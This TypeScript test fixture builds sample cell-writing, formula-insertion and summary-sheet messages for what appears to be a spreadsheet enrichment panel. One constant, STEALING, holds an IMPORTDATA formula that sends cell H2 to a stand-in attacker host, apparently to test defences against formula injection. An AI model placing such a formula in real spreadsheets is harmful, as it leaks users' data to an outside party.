import type { SentInsertion, SentWriting } from '../../../apps-script/messages/cell-messages';
import type { SentNewSheet } from '../../../apps-script/messages/sheet-messages';
import { LEADS } from '../spending/file-of-owner';

/** Messages of an enrichment as the panel sends them, of which a test changes a part. */

/** Sends a cell elsewhere, wherever it is calculated. */
export const STEALING = '=IMPORTDATA("https://evil.example/?"&H2)';

interface Written {
  readonly sheet: string;
  readonly columns: readonly number[];
  readonly typed: string;
  readonly holder: string | null;
  readonly save: SentWriting['save'];
}

/** Names beside the first two companies, into column C unless told. */
export function toWriting({
  sheet = LEADS,
  columns = [2],
  typed = 'Company 2',
  holder = null,
  save,
}: Partial<Written>) {
  return {
    sheet,
    rows: [1, 2],
    columns,
    cells: [[['Company 1', '']], [[typed, '']]],
    guard: {
      input: null,
      before: [[''], ['']],
      formats: null,
      marks: null,
      beside: null,
      holder,
    },
    save: save ?? null,
  } satisfies SentWriting;
}

/** A formula, or one value, into C2 unless told. */
export function toInsertion({
  sheet = LEADS,
  row = 1,
  column = 2,
  formula = null,
  typed,
}: Partial<SentInsertion> & { readonly typed?: string }): SentInsertion {
  return { sheet, row, column, rows: 1, columns: 1, formula, cells: typed === undefined ? [] : [[[typed, '']]] };
}

/** A sheet that sums an enrichment up, with a chart. */
export function toNewSheet(title: string, cell: string): SentNewSheet {
  return {
    title,
    rows: [
      ['Name', 'Companies'],
      [cell, 2],
    ],
    charts: [{ title, row: 0, rows: 2, at: { row: 0, column: 4 }, width: 300, height: 200 }],
    isOnce: false,
    looks: {
      widths: [200, 90],
      formats: [{ column: 1, format: '0' }],
      titles: [{ row: 0, columns: 2, numbers: [1], size: 0, fill: '' }],
      textCells: [{ row: 0, column: 0 }],
      frozenRows: 1,
    },
  };
}
